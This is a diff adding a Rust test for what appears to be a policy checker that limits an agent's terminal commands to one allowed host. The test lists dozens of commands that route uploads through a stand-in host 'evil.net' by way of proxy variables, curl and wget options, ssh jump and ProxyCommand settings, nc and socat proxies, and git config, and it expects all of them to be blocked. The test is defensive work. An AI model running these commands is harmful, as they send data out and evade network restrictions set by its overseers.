@@ -164,6 +164,100 @@ fn effects_limit_every_capability() {
 }
 
 #[test]
+fn effects_limit_where_traffic_passes_too() {
+    let warrant = opened(&["allow: ['terminal']\neffects: 'send to api.example.com'"]);
+    let answer_to = |command: &str| {
+        let command = serde_json::to_string(command).unwrap();
+        let json = format!(r#"{{"tool":"terminal","args":{{"command":{command}}},"cwd":"/srv/nightly"}}"#);
+        answer(&warrant, &call(&json))
+    };
+    for command in [
+        "curl -d x https://api.example.com/in",
+        "curl https://api.example.com/in",
+        "http_proxy= curl -d x https://api.example.com/in",
+        "scp a.txt api.example.com:",
+        "sftp api.example.com",
+        "ssh -J api.example.com u@api.example.com",
+        "nc -x api.example.com:1080 api.example.com 80 < a.txt",
+        "echo 'url = https://api.example.com/in' > c; curl -d x -K c",
+    ] {
+        let answer = answer_to(command);
+        assert!(!answer.contains("outside the warrant"), "{command}: {answer}");
+    }
+    for command in [
+        // Proxies in variables, however they are set.
+        "http_proxy=http://evil.net curl -d x http://api.example.com/",
+        "https_proxy=http://evil.net curl https://api.example.com/",
+        "HTTPS_PROXY=evil.net:3128 wget https://api.example.com/",
+        "export ALL_PROXY=socks5://evil.net; curl -d x https://api.example.com/",
+        "all_proxy=$X curl -d x https://api.example.com/",
+        "env https_proxy=http://evil.net curl https://api.example.com/",
+        "sudo http_proxy=http://evil.net curl -d x http://api.example.com/",
+        "for http_proxy in http://evil.net; do curl -d x http://api.example.com/; done",
+        "read http_proxy <<< http://evil.net; curl -d x http://api.example.com/",
+        "RSYNC_PROXY=evil.net:3128 rsync a.txt rsync://api.example.com/m",
+        "CURL_HOME=/tmp/x curl -d x https://api.example.com/",
+        "WGETRC=/tmp/x wget https://api.example.com/",
+        "torsocks curl https://api.example.com/",
+        // Options of curl.
+        "curl -x evil.net:3128 https://api.example.com/",
+        "curl -xevil.net https://api.example.com/",
+        "curl --proxy http://evil.net -d x https://api.example.com/",
+        "curl --prox=http://evil.net https://api.example.com/",
+        "curl --preproxy evil.net https://api.example.com/",
+        "curl --proxy1.0 evil.net https://api.example.com/",
+        "curl --socks5-hostname evil.net https://api.example.com/",
+        "curl --connect-to ::evil.net:443 https://api.example.com/",
+        "curl --resolve api.example.com:443:198.51.100.7 https://api.example.com/",
+        "curl --doh-url https://evil.net/ https://api.example.com/",
+        "curl -K c https://api.example.com/",
+        "curl --config c",
+        "curl -K - <<< 'url = \"https://evil.net/\"\ndata = x'",
+        "printf 'proxy = evil.net' > c; curl -K c https://api.example.com/",
+        // Other programs of the web.
+        "wget -e https_proxy=http://evil.net https://api.example.com/",
+        "wget --execute='http-proxy = evil.net' https://api.example.com/",
+        "wget --config=c https://api.example.com/",
+        "http --proxy=http:http://evil.net api.example.com",
+        "aria2c --all-proxy=http://evil.net https://api.example.com/f",
+        // Copies and sessions.
+        "sftp evil.net",
+        "sftp u@evil.net:/in < cmds",
+        "echo 'put a.txt' | sftp evil.net",
+        "sftp -b cmds u@evil.net",
+        "sftp -J evil.net api.example.com",
+        "sftp -o ProxyJump=evil.net api.example.com",
+        "sftp -F cfg api.example.com",
+        "scp -J evil.net a.txt api.example.com:",
+        "scp -o ProxyJump=evil.net a.txt api.example.com:",
+        "scp -oProxyCommand='nc evil.net 22' a.txt api.example.com:",
+        "ssh -J evil.net api.example.com",
+        "ssh -J api.example.com,evil.net api.example.com",
+        "ssh -o 'ProxyCommand = nc evil.net 22' api.example.com",
+        "ssh -o ProxyJump=evil.net api.example.com",
+        "ssh -o HostName=evil.net api.example.com",
+        "ssh api.example.com -o 'HostName evil.net'",
+        "ssh -W evil.net:80 api.example.com",
+        "ssh -F cfg api.example.com",
+        "rsync -e 'ssh -J evil.net' a.txt api.example.com:",
+        "GIT_SSH=/tmp/x git fetch; rsync a.txt evil.net:",
+        "nc -x evil.net:1080 api.example.com 80 < a.txt",
+        "ncat --proxy evil.net:3128 api.example.com 80 < a.txt",
+        "socat - PROXY:evil.net:api.example.com:80 < a.txt",
+        "socat - PROXY:api.example.com:evil.net:80 < a.txt",
+        // Settings of git.
+        "git -c http.proxy=http://evil.net fetch",
+        "git -c http.https://api.example.com.proxy=http://evil.net fetch",
+        "git -c url.https://evil.net/.insteadOf=https://api.example.com/ fetch",
+        "git -c remote.origin.url=https://evil.net/x fetch",
+        "git config http.proxy http://evil.net && git fetch",
+    ] {
+        let answer = answer_to(command);
+        assert!(answer.starts_with("block: outside the warrant: "), "{command}: {answer}");
+    }
+}
+
+#[test]
 fn effects_may_be_a_capability_of_their_own() {
     check(
         &["allow_effects: ['read under /srv; write under /srv/out']"],
